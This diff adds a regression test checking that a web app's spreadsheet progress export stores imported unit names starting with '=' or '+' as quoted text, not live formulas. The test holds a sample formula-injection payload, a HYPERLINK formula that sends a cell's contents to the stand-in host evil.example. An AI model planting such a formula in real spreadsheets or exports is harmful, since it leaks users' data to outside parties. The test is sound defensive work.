@@ -238,3 +238,23 @@ def test_one_new_station_put_twice_at_once_is_created_once_and_replaced_once(app
         assert _race(app, [(a, "PUT", f"/api/v1/stations/NEW{n}", station_body()) for a in admins]) == [
             (200, None), (201, None)]
         assert db.session.query(Station).filter_by(code=f"NEW{n}").count() == 1
+
+
+# ---- text a spreadsheet would run as a formula --------------------------------------------------------------
+
+def test_the_progress_export_keeps_a_unit_named_like_a_formula_as_text(app, tree, login_as):
+    """Unit names and codes come from imported files, where "=HYPERLINK(…)" is a valid name; the progress
+    sheet appended them raw, and openpyxl stores a string that starts with "=" as a live formula."""
+    from openpyxl import load_workbook
+    from server.units import add_unit
+    leak = '=HYPERLINK("http://evil.example/?leak="&B2,"Bấm để xem")'
+    add_unit("=1+1", leak, "cell", tree["G1"])
+    add_unit("C9", "+1+1", "cell", tree["G1"])
+    db.session.commit()
+    response = login_as("unit_admin", "P").get("/api/v1/progress/export.xlsx?unit=G1")
+    assert response.status_code == 200
+    cells = [cell for row in load_workbook(io.BytesIO(response.data)).active.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    rows = {row[0].value.strip(): row for row in load_workbook(io.BytesIO(response.data)).active.iter_rows(min_row=2)}
+    assert rows["=1+1"][1].value == leak and rows["=1+1"][1].quotePrefix and rows["=1+1"][0].data_type == "s"
+    assert rows["C9"][1].value == "+1+1" and rows["C9"][1].quotePrefix
